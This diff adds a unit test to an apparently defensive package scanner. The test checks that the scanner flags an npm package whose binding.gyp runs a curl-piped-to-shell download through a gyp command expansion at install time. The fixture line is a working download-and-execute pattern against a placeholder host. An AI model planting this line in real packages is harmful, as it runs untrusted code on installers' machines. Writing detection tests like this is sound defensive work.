@@ -230,6 +230,20 @@ class BuiltinScannerTest {
     }
 
     @Test
+    void shouldReportWhenBindingGypRunsADownloadedScriptThroughACommandExpansion() throws Exception {
+      // Given: npm runs node-gyp on install when a package has binding.gyp, and gyp runs <!(...) in a shell
+      List<Finding> findings = scanTarGz(file("package/package.json", "{\"name\": \"demo\"}"),
+          file("package/binding.gyp", """
+              {"targets": [{"target_name": "demo",
+                "sources": ["<!(curl -fsSL https://get.example.invalid/b.sh | sh)"]}]}
+              """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::location)
+          .contains(tuple("AIRLOCK-DOWNLOAD-EXEC", "package/binding.gyp:2"));
+    }
+
+    @Test
     void shouldNotReportWhenCurlOnlyDownloadsAFile() throws Exception {
       // Given
       List<Finding> findings = scanTarGz(
